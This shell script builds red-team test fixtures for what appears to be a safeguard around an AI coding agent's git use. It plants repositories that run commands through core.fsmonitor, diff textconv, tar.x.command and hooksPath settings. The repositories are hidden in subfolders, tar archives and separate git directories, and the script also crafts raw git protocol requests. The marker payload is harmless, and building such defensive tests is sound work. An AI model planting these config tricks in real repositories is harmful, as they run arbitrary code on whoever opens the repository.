#!/bin/sh
# Red team 15C's trees (its cases in 07): repositories git finds with no .git in their names, made
# by the real git; sourced by setup-fixtures.ts with the directory to build in. Payload: id > PWNED.
SCRATCH="$1"
mkdir -p "$SCRATCH"
command -v git >/dev/null || exit 0
export GIT_CONFIG_NOSYSTEM=1 HOME="$SCRATCH/.home"
mkdir -p "$HOME"
# rt15c fixtures (idempotent). Payload writes $SCRATCH/PWNED.
set -e
C="$SCRATCH"
rm -rf $C/r $C/src0 $C/PWNED
G="git -c user.email=a@b -c user.name=n"
# src0: the "upstream" (attacker's) repository. master: ordinary files; branch pr adds
# sub/{HEAD,objects,refs,config,info/attributes} (a bare repository's files with a textconv) and evil/ (same).
mkdir -p $C/src0 && cd $C/src0 && git init -q -b master && mkdir -p src sub && echo 'export const a = 1' > src/a.ts && echo hi > sub/README && $G add . && $G commit -qm init
git checkout -q -b pr
git clone -q --bare . $SCRATCH/tmpbare
rm -rf $SCRATCH/tmpbare/hooks
printf '[diff "x"]\n\ttextconv = id >$SCRATCH/PWNED && cat\n[core]\n\tfsmonitor = id >$SCRATCH/PWNED;echo\n' >> $SCRATCH/tmpbare/config
mkdir -p $SCRATCH/tmpbare/info && echo '* diff=x' > $SCRATCH/tmpbare/info/attributes
find $SCRATCH/tmpbare -type d -empty -exec touch {}/.keep \;
cp -r $SCRATCH/tmpbare/. sub/ && cp -r $SCRATCH/tmpbare evil && rm -rf $SCRATCH/tmpbare
$G add -f sub evil && $G commit -qm 'add repo files'
git checkout -q master
# r: the agent's workspace, a clone of src0 (master checked out; origin/pr holds the repository files)
git clone -q $C/src0 $C/r && cd $C/r && git branch -q pr origin/pr
echo ok
# xr: objects and refs are executable FILES (copies of a hook sample), not directories: git's
# is_git_directory only asks access(X_OK); config sets a work tree and core.fsmonitor.
cd $C && rm -rf xr && mkdir -p xr/wt && printf 'ref: refs/heads/master\n' > xr/HEAD && cp r/.git/hooks/pre-commit.sample xr/objects && cp r/.git/hooks/pre-commit.sample xr/refs && printf '[core]\n\trepositoryformatversion = 0\n\tbare = false\n\tworktree = wt\n\tfsmonitor = "id >$SCRATCH/PWNED #"\n' > xr/config
echo ok2
# q: an unnamed bare repository (as a previous call could plant: git clone --bare, then config
# appended), with a textconv and tar.x.command (remote = true); req: an upload-archive request.
cd $C && rm -rf q q2 hk req rreq p.diff
git clone -q --bare src0 q && printf '[tar "x"]\n\tcommand = "id >$SCRATCH/PWNED #"\n\tremote = true\n[diff "x"]\n\ttextconv = id >$SCRATCH/PWNED && cat\n' >> q/config && mkdir -p q/info && printf '* diff=x\n' > q/info/attributes
printf '0018argument --format=x\n0012argument HEAD\n0000' > req
# q2: an unnamed bare repository whose core.hooksPath is hk/, where git apply put an executable pre-receive
git init -q --bare q2 && printf '[core]\n\thooksPath = $SCRATCH/hk\n' >> q2/config
printf 'diff --git a/hk/pre-receive b/hk/pre-receive\nnew file mode 100755\n--- /dev/null\n+++ b/hk/pre-receive\n@@ -0,0 +1,2 @@\n+#!/bin/sh\n+id > $SCRATCH/PWNED\n' > p.diff && git apply p.diff
git -C r push -q ../q2 master:master 2>/dev/null; rm -f PWNED
# rreq: a receive-pack request deleting refs/heads/master (delete-refs: no pack needed); printf can make it
old=$(git -C q2 rev-parse master)
printf "%04x%s %s refs/heads/master\000report-status delete-refs\n0000" $((4 + 40 + 1 + 40 + 18 + 1 + 26)) "$old" 0000000000000000000000000000000000000000 > rreq
echo ok3
# v: a work tree whose .git DIRECTORY came out of an archive (tar xf e.tar; e.tar made with
# tar --transform from ptpl, a bare clone given core.fsmonitor): no seen write made v/.git.
cd $C && rm -rf e.tar v ptpl && git clone -q --bare src0 ptpl && printf '[core]\n\tbare = false\n\tfsmonitor = "id >$SCRATCH/PWNED #"\n' >> ptpl/config && tar cf e.tar --transform 's,^ptpl,v/.git,' ptpl && tar xf e.tar
echo ok4
# sp: a work tree (a clone) whose index holds a gitlink sp/sub2; sub2 was cloned with
# --separate-git-dir=sgd (sub2/.git is a gitfile naming sgd, an unnamed repository) and
# sgd/config then given core.fsmonitor: `git status` in sp runs `git status` in sub2.
cd $C && rm -rf sp sgd sub2 && git clone -q src0 sp && git clone -q --separate-git-dir=$C/sgd src0 sp/sub2 && printf '[core]\n\tfsmonitor = "id >$SCRATCH/PWNED #"\n' >> sgd/config && git -C sp add sub2 2>/dev/null
rm -f PWNED
echo ok5
echo ok6
# hr: a repository set up with husky 9 (as `npx husky init` leaves it): core.hooksPath = .husky/_,
# .husky/_/pre-commit sources .husky/_/h, which runs `sh -e .husky/pre-commit` (a plain file).
cd $C && rm -rf hr && git clone -q src0 hr && cd hr && mkdir -p .husky/_ && cat > .husky/_/h <<'H'
#!/usr/bin/env sh
[ "$HUSKY" = "2" ] && set -x
n=$(basename "$0")
s=$(dirname "$(dirname "$0")")/$n

[ ! -f "$s" ] && exit 0

i="${XDG_CONFIG_HOME:-$HOME/.config}/husky/init.sh"
[ -f "$i" ] && . "$i"

[ "${HUSKY-}" = "0" ] && exit 0

export PATH="node_modules/.bin:$PATH"
sh -e "$s" "$@"
c=$?

[ $c != 0 ] && echo "husky - $n script failed (code $c)"
[ $c = 127 ] && echo "husky - command not found in PATH=$PATH"
exit $c
H
printf '#!/usr/bin/env sh\n. "$(dirname "$0")/h"\n' > .husky/_/pre-commit && chmod +x .husky/_/h .husky/_/pre-commit && echo '*' > .husky/_/.gitignore && echo 'npm test' > .husky/pre-commit && git config core.hooksPath .husky/_ && git config user.email a@b && git config user.name n
echo ok7
cd $C && rm -rf 'bs\q' && cp -r q 'bs\q'
echo ok8
# t1: a plain clone of src0 (cwd of the `git init --separate-git-dir` case)
cd $C && rm -rf t1 pw pw2 pz p5 p8 pg p9 && git clone -q src0 t1
echo ok9
